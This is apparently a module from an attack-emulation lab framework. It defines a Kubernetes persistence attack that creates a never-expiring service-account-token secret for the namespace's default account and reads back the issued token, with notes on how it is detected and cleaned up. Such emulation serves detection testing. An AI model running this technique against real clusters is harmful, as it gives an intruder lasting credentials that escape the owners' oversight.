"""Attack: token secret that never expires.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

CARD = base.Card(
    id="long-lived-token",
    title="Token secret that never expires",
    technique=base.Technique(id="T1098.001", name="Additional Cloud Credentials", tactic="Persistence"),
    use_case=vocabulary.UseCase.PERSISTENCE,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Creates a secret of the old token type for an account of the namespace, waits until the control plane "
        "fills it and reads it."
    ),
    seen_by="A secret of type service-account-token created and read by the same identity.",
    cleans_up="The secret is deleted, which revokes the token.",
    victim=base.Part.CI,
    catalogues=("Microsoft: container service account",),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.CI)
    thief = ctx.act_as(victim)
    namespace = victim.namespaces[0] if victim.namespaces else victim.namespace
    name = ctx.name("default-token")
    secrets = paths.core("secrets", namespace)
    ctx.remove_later(f"{secrets}/{name}")
    body = {
        "apiVersion": "v1",
        "kind": "Secret",
        "type": "kubernetes.io/service-account-token",
        "metadata": {"name": name, "annotations": {"kubernetes.io/service-account.name": "default"}},
    }
    yield thief.create(secrets, body)
    yield thief.get(f"{secrets}/{name}", after_s=30.0)


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
